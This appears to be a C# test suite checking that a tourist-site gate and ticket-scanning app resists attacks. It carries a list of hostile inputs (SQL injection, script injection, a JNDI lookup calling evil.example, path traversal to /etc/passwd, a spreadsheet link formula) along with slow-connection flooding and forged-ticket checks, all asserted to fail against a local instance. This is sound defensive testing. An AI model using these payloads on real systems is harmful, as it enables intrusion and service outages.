using System.Net;
using System.Net.Sockets;
using System.Net.WebSockets;
using System.Text;
using CccdSdk.Testing;
using Samples.BrowserTests.Shared;
using TouristGate.Core.Journal;
using TouristGate.Core.Tickets;

namespace Samples.BrowserTests.Gate;

/// <summary>Whatever is sent: the right status, nothing in the journal, and the lanes go on.</summary>
public sealed class GateAttackTests
{
    private const int SlowConnections = 2000;
    private const int SlowBodies = 400;

    private static readonly string[] s_hostile =
    [
        "'; DROP TABLE entry; --", "\" OR \"1\"=\"1", "<script>document.title='hacked'</script>", "<img src=x onerror=document.title='hacked'>",
        "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "=HYPERLINK(\"http://evil.example\")", "{0}{1}%s%n\u0000\u202E",
    ];

    [Fact]
    public async Task Scan_HostileTextInEveryField_ChangesNothing()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        await client.OpenLaneAsync("1");
        using ClientWebSocket lane = (await client.ConnectAsync("/api/lane/keys")).Socket;
        string[] fields = GateSite.PayloadOf(901).Split('|');
        foreach (string hostile in s_hostile)
        {
            await client.ScanAsync(lane, hostile);
            for (int i = 0; i < fields.Length; i++)
            {
                // A card may still be read without the field that is no value; then it is a card like any other.
                Assert.Matches("^(welcome|alreadyInside|duplicateScan|notACard|cardUnclear|cardNotAccepted|ticketUnknown)$",
                    await client.ScanAsync(lane, string.Join('|', fields.Select((field, j) => i == j ? hostile : field))));
            }
        }

        Assert.Equal("welcome", await client.ScanAsync(lane, GateSite.PayloadOf(902)));
        Assert.Contains(JournalFile.Read(Path.Combine(app.Folder, "lane-1.db")), entry => entry.Persons == 1);
        AssertNowhere(app, ["DROP TABLE entry; --", "hacked", "evil.example", "etc/passwd"]);
    }

    [Fact]
    public async Task Revoke_LaneOfAStolenTablet_CutsItsCameraOffToo()
    {
        await using SampleApp app = await StartAsync();
        using var tablet = new GateClient(app.Address);
        await tablet.OpenLaneAsync("1");
        using ClientWebSocket camera = (await tablet.ConnectAsync("/api/lane/camera")).Socket;
        using var supervisor = new GateClient(app.Address);
        await supervisor.LoginAsync(GateSite.PasswordOf(app));
        await supervisor.PostJsonAsync("/api/lanes/1/revoke", new { });
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        await Assert.ThrowsAsync<WebSocketException>(async () => await camera.ReceiveAsync(new byte[256], limit.Token));
        Assert.NotEqual(WebSocketState.Open, camera.State);
    }

    [Fact]
    public async Task Pages_HostileTextOnTheScreen_StaysText()
    {
        await using GateSite site = await GateSite.StartAsync();
        Microsoft.Playwright.IPage lane = await site.OpenLaneAsync("1");
        string[] fields = GateSite.PayloadOf(903).Split('|');
        fields[2] = "Nguyễn <img src=x onerror=document.title='hacked'> Mẫu";
        await GateSite.ScanAsync(lane, string.Join('|', fields));
        Assert.Equal(0, await lane.Locator("img").CountAsync());
        Assert.DoesNotContain("hacked", await lane.TitleAsync(), StringComparison.Ordinal);

        Microsoft.Playwright.IPage staff = await site.OpenAsSupervisorAsync("/tickets");
        await staff.FillAsync("#bill", "<img src=x onerror=document.title=1>");
        await staff.ClickAsync("#issue button");
        await Microsoft.Playwright.Assertions.Expect(staff.Locator("#recent")).ToContainTextAsync("<img src=x");
        Assert.Equal(0, await staff.Locator("#recent img").CountAsync());
    }

    [Fact]
    public async Task Logs_AndFiles_HoldNothingOfACard()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        await client.OpenLaneAsync("1");
        using ClientWebSocket lane = (await client.ConnectAsync("/api/lane/keys")).Socket;
        SyntheticIdentity person = GateSite.PersonOf(904);
        Assert.Equal("welcome", await client.ScanAsync(lane, SyntheticPayload.Write(person)));
        Assert.Equal("notACard", await client.ScanAsync(lane, person.Number));
        lane.Abort();
        Assert.Equal(0, await app.StopAsync());
        AssertNowhere(app, [person.Number, person.FullName, person.Residence, person.DateOfBirth.ToString("ddMMyyyy", System.Globalization.CultureInfo.InvariantCulture)]);
    }

    [Fact]
    public async Task Send_Megabytes_AreRefused()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        string megabyte = new('x', 1 << 20);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, (await client.PostAsync("/api/login", new { name = "giamsat", password = megabyte })).StatusCode);
        Assert.Equal(HttpStatusCode.RequestUriTooLong, (await client.Http.GetAsync($"/api/site?x={megabyte[..60_000]}")).StatusCode);
        using var large = new HttpRequestMessage(HttpMethod.Get, "/api/site");
        large.Headers.Add("X-Large", megabyte[..60_000]);
        Assert.Equal(HttpStatusCode.RequestHeaderFieldsTooLarge, (await client.Http.SendAsync(large)).StatusCode);
        await client.LoginAsync(GateSite.PasswordOf(app));
        using var csv = new StringContent(new string('x', 9 << 20), Encoding.UTF8, "text/csv");
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, (await client.PostAsync("/api/tickets/import", csv)).StatusCode);

        await client.OpenLaneAsync("1");
        using ClientWebSocket lane = (await client.ConnectAsync("/api/lane/keys")).Socket;
        byte[] message = Encoding.UTF8.GetBytes($"{{\"text\":\"{megabyte}\",\"times\":[],\"now\":1}}");
        _ = lane.SendAsync(message, WebSocketMessageType.Text, true, CancellationToken.None).ContinueWith(_ => { }, TaskScheduler.Default);
        Assert.Equal(WebSocketCloseStatus.MessageTooBig, await CloseStatusAsync(lane));
        AssertNoDecision(app);
    }

    [Fact]
    public async Task Connect_TwoThousandSlowSenders_LanesGoOn()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        await client.OpenLaneAsync("1");
        using ClientWebSocket lane = (await client.ConnectAsync("/api/lane/keys")).Socket;
        TcpClient[] slow = await Task.WhenAll(Enumerable.Range(0, SlowConnections).Select(_ => OpenSlowAsync(app.Address)));
        try
        {
            Assert.Equal("welcome", await client.ScanAsync(lane, GateSite.PayloadOf(905)));
            Assert.Equal(HttpStatusCode.OK, (await client.Http.GetAsync("/health")).StatusCode);
            string[] answers = await Task.WhenAll(slow.Select(FirstLineAsync));
            Assert.Equal(SlowConnections, answers.Count(line => line.StartsWith("HTTP/1.1 408", StringComparison.Ordinal)));
            Assert.Equal("welcome", await client.ScanAsync(lane, GateSite.PayloadOf(906)));
        }
        finally
        {
            Array.ForEach(slow, one => one.Dispose());
        }
    }

    [Fact]
    public async Task Send_BodiesAByteASecond_AreCutOffAndLanesGoOn()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        await client.OpenLaneAsync("1");
        using ClientWebSocket lane = (await client.ConnectAsync("/api/lane/keys")).Socket;
        Task<string[]> slow = Task.WhenAll(Enumerable.Range(0, SlowBodies).Select(_ => SendSlowlyAsync(app.Address)));
        int scans = 0;
        while (!slow.IsCompleted)
        {
            Assert.Equal("welcome", await client.ScanAsync(lane, GateSite.PayloadOf((ulong)(2000 + scans++))));
            await Task.Delay(100);
        }

        // A body must come with 500 bytes a second after a grace of three seconds.
        Assert.Equal(SlowBodies, (await slow).Count(line => line.StartsWith("HTTP/1.1 408", StringComparison.Ordinal)));
        Assert.True(scans > 10, $"Only {scans} scans meanwhile.");
        Assert.Equal(HttpStatusCode.OK, (await client.Http.GetAsync("/health")).StatusCode);
    }

    [Fact]
    public async Task Tickets_ForgedReplayedAndOfOthers_AreRefused()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        await client.OpenLaneAsync("1");
        using ClientWebSocket lane = (await client.ConnectAsync("/api/lane/keys")).Socket;
        using var other = TicketSigner.Generate();
        var ticket = new TicketRecord { Id = "00112233aabb", Kind = TicketKind.Single, EventId = "demo", ValidFrom = new DateOnly(2026, 1, 1), ValidTo = new DateOnly(2030, 1, 1) };
        Assert.Equal("ticketForged", await client.ScanAsync(lane, other.Sign(ticket)));
        Assert.Equal("ticketForged", await client.ScanAsync(lane, new string('9', TicketCode.DigitCount)));
        Assert.Equal("ticketForged", await client.ScanAsync(lane, new string('0', TicketCode.DigitCount)));
        AssertNoDecision(app);

        await client.LoginAsync(GateSite.PasswordOf(app));
        string day = DateTime.UtcNow.AddHours(4).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);
        await client.PostJsonAsync("/api/tickets/import", new StringContent($"code,kind,heads,valid_from,valid_to,card_number,bill,price\nMUA-0001,single,1,{day},{day},,,1000\n", Encoding.UTF8, "text/csv"));
        using var second = new GateClient(app.Address);
        await second.OpenLaneAsync("2");
        using ClientWebSocket otherLane = (await second.ConnectAsync("/api/lane/keys")).Socket;
        using var third = new GateClient(app.Address);
        await third.OpenLaneAsync("3");
        using ClientWebSocket exit = (await third.ConnectAsync("/api/lane/keys")).Socket;
        Assert.Equal("welcome", await client.ScanAsync(lane, "MUA-0001"));
        Assert.Equal("alreadyInside", await second.ScanAsync(otherLane, "MUA-0001"));
        Assert.Equal("goodbye", await third.ScanAsync(exit, "MUA-0001"));
        Assert.Equal("welcomeBack", await second.ScanAsync(otherLane, "MUA-0001"));
        JournalEntry[] rows = [.. ((string[])["1", "2", "3"]).SelectMany(id => JournalFile.Read(Path.Combine(app.Folder, $"lane-{id}.db")))];
        Assert.Equal(1, rows.Sum(entry => entry.HeadsUsed));
    }

    [Theory]
    [InlineData("/api/lane/keys", null, "own", HttpStatusCode.Unauthorized)]
    [InlineData("/api/lane/keys", "0000000000000000000000000000000000000000000000000000000000000000", "own", HttpStatusCode.Unauthorized)]
    [InlineData("/api/lane/keys", "x", "own", HttpStatusCode.Unauthorized)]
    [InlineData("/api/lane/keys", "valid", "https://evil.example", HttpStatusCode.Forbidden)]
    [InlineData("/api/lane/keys", "valid", "null", HttpStatusCode.Forbidden)]
    [InlineData("/api/lane/keys", "valid", null, HttpStatusCode.Forbidden)]
    [InlineData("/api/lane/camera", "valid", "https://evil.example", HttpStatusCode.Forbidden)]
    [InlineData("/api/staff/keys", "valid", "own", HttpStatusCode.Unauthorized)]
    [InlineData("/api/lane/keys", "valid", "own", HttpStatusCode.SwitchingProtocols)]
    public async Task Connect_LaneTokenAndOrigin_AreChecked(string path, string? token, string? origin, HttpStatusCode expected)
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        if (token == "valid")
        {
            await client.OpenLaneAsync("1");
        }
        else if (token is not null)
        {
            client.Cookies.Add(new Cookie("gate-lane", token, "/", "127.0.0.1"));
        }

        Assert.Equal(expected, (await client.ConnectAsync(path, origin)).Status);
    }

    [Fact]
    public async Task Get_PathsWithoutLogin_AreRefused()
    {
        await using SampleApp app = await StartAsync();
        (string Path, int Status)[] requests =
        [
            ("/supervisor", 302), ("/report", 302), ("/staff", 302), ("/tickets", 302),
            ("/SUPERVISOR", 302), ("//supervisor", 404), ("/supervisor/", 302), ("/./supervisor", 302), ("/lane/../supervisor", 302), ("/%73upervisor", 302),
            ("/api/supervisor", 401), ("/api/accounts/", 401), ("/api/lanes", 401), ("/api/tickets/", 401), ("/api/report/today", 401),
            ("/api/report/today/hours.csv", 401), ("/api/report/../../../etc/passwd", 404), ("/api/tickets/..%2f..%2fkeys.json", 404),
            ("/site.db", 404), ("/keys.json", 404), ("/lane-1.db", 404), ("/pages/supervisor.html", 404), ("/site/gate.css", 404), ("/appsettings.json", 404),
            ("/../../../../etc/passwd", 404), ("/lib/uplot/..%2f..%2f..%2f..%2fetc%2fpasswd", 404), ("/js/%2e%2e/%2e%2e/appsettings.json", 404),
            ("/js/..%5c..%5cappsettings.json", 404), ("/js/api.js%00.html", 400), ("/cookie-keys/", 404), ("/api/demo/samples/..%2fkeys.json.png", 404),
        ];
        foreach ((string path, int status) in requests)
        {
            string line = await RawAsync(app.Address, $"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            Assert.True(line.StartsWith($"HTTP/1.1 {status} ", StringComparison.Ordinal), $"{path}: {line}");
        }

        AssertNoDecision(app);
    }

    [Fact]
    public async Task Post_WithoutTokenOrFromElsewhere_IsRefused()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        var credentials = new { name = "giamsat", password = GateSite.PasswordOf(app) };
        Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsync("/api/login", credentials, guarded: false)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await client.PostAsync("/api/login", credentials, origin: "https://evil.example")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await client.PostAsync("/api/login", credentials, origin: "null")).StatusCode);
        foreach (string path in (string[])["/api/verify", "/api/count", "/api/accounts/", "/api/lanes/1/code", "/api/lanes/1/staff", "/api/lanes/1/revoke", "/api/lanes/1/clock", "/api/lanes/1/recover", "/api/tickets/", "/api/tickets/void", "/api/tickets/import"])
        {
            Assert.Equal(HttpStatusCode.Unauthorized, (await client.PostAsync(path, new { })).StatusCode);
        }

        await client.LoginAsync(credentials.password);
        Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsync("/api/verify", new { }, guarded: false)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await client.PostAsync("/api/lanes/khong-co/code", new { })).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsync("/api/accounts/", new { name = "<b>", role = "staff" })).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsync("/api/accounts/", new { name = "a", role = "root" })).StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, (await client.PostAsync("/api/accounts/giamsat/remove", new { })).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsync("/api/lanes/1/staff", new { action = "visitor", persons = -5, reason = "abc" })).StatusCode);
        AssertNoDecision(app);
    }

    [Fact]
    public async Task Login_ManyGuesses_AreSlowedDown()
    {
        await using SampleApp app = await StartAsync();
        using var client = new GateClient(app.Address);
        var answers = new List<HttpStatusCode>();
        for (int i = 0; i < 14; i++)
        {
            answers.Add((await client.PostAsync("/api/login", new { name = "giamsat", password = $"guess-{i}" })).StatusCode);
        }

        Assert.Equal(10, answers.Count(status => status == HttpStatusCode.Unauthorized));
        Assert.Equal(4, answers.Count(status => status == HttpStatusCode.TooManyRequests));
    }

    private static Task<SampleApp> StartAsync() => SampleApp.StartAsync("TouristGate", ["--duplicate-seconds", "0"]);

    private static void AssertNoDecision(SampleApp app) => Assert.All((string[])["1", "2", "3"], id =>
        Assert.DoesNotContain(JournalFile.Read(Path.Combine(app.Folder, $"lane-{id}.db")), entry => entry.Kind == EntryKind.Decision && entry.Persons > 0));

    private static void AssertNowhere(SampleApp app, string[] texts)
    {
        foreach (string text in texts)
        {
            Assert.DoesNotContain(app.Output, line => line.Contains(text, StringComparison.Ordinal));
            byte[] bytes = Encoding.UTF8.GetBytes(text);
            Assert.All(Directory.EnumerateFiles(app.Folder, "*", SearchOption.AllDirectories), path =>
                Assert.True(Read(path).AsSpan().IndexOf(bytes) < 0, $"{Path.GetFileName(path)} holds what was scanned."));
        }
    }

    private static byte[] Read(string path)
    {
        using FileStream file = File.Open(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
        byte[] all = new byte[file.Length];
        file.ReadAtLeast(all, all.Length, throwOnEndOfStream: false);
        return all;
    }

    private static async Task<TcpClient> OpenSlowAsync(Uri address)
    {
        var client = new TcpClient();
        await client.ConnectAsync(IPAddress.Loopback, address.Port);
        await client.GetStream().WriteAsync("GET /api/site HTTP/1.1\r\nHost: localhost\r\nX-Slow: a"u8.ToArray());
        return client;
    }

    /// <summary>Sends the head of a request at once and its body a byte a second, until there is an answer.</summary>
    private static async Task<string> SendSlowlyAsync(Uri address)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(IPAddress.Loopback, address.Port);
        await client.GetStream().WriteAsync("POST /api/demo/lane HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{"u8.ToArray());
        Task<string> answer = FirstLineAsync(client);
        while (await Task.WhenAny(answer, Task.Delay(1000)) != answer)
        {
            await client.GetStream().WriteAsync(" "u8.ToArray());
        }

        return await answer;
    }

    private static async Task<string> FirstLineAsync(TcpClient client)
    {
        using var reader = new StreamReader(client.GetStream(), leaveOpen: true);
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        return await reader.ReadLineAsync(limit.Token) ?? string.Empty;
    }

    private static async Task<string> RawAsync(Uri address, string request)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(IPAddress.Loopback, address.Port);
        await client.GetStream().WriteAsync(Encoding.ASCII.GetBytes(request));
        return await FirstLineAsync(client);
    }

    private static async Task<WebSocketCloseStatus?> CloseStatusAsync(ClientWebSocket socket)
    {
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        byte[] buffer = new byte[8192];
        WebSocketReceiveResult answer;
        do
        {
            answer = await socket.ReceiveAsync(buffer, limit.Token);
        }
        while (answer.MessageType != WebSocketMessageType.Close);
        return answer.CloseStatus;
    }
}
